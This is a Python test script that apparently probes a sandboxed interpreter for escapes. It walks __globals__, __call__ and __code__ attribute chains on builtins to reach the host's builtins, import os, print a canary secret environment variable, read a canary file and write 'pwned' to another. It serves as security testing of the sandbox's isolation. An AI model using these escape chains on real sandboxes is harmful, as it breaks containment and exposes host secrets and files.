# attack: __globals__ and __code__ of a wrapped builtin or of its __call__
reached = []


def loot(b):
    """Given the host's builtins (module or dict): keep it as the result, steal both secrets."""
    reached.append(b)
    try:
        if not isinstance(b, dict):
            b = getattr(b, "__dict__")
        ga = b["getattr"]
        os = b["__import__"]("os")
        print(ga(os, "environ")["MONTY_CANARY_SECRET"])
        print(ga(b["open"](canary_path), "read")())
        ga(b["open"](canary_write_path, "w"), "write")("pwned")
    except Exception as err:
        print("loot stopped:", type(err).__name__)


def loot_globals(g):
    """Given a host function's globals: loot its builtins."""
    reached.append(g)
    loot(g["__builtins__"])


for fn in (sum, print, getattr, hasattr, max, exec, dir, vars):
    for chain in (["__globals__"], ["__call__", "__globals__"], ["__call__", "__call__", "__globals__"]):
        obj = fn
        try:
            for name in chain:
                obj = getattr(obj, name)
            loot_globals(obj)
        except AttributeError as err:
            print(chain, type(err).__name__)
    for chain in (["__code__"], ["__call__", "__code__"]):
        obj = fn
        try:
            for name in chain:
                obj = getattr(obj, name)
            reached.append(obj)
            print(getattr(obj, "co_consts"))
        except AttributeError as err:
            print(chain, type(err).__name__)
reached
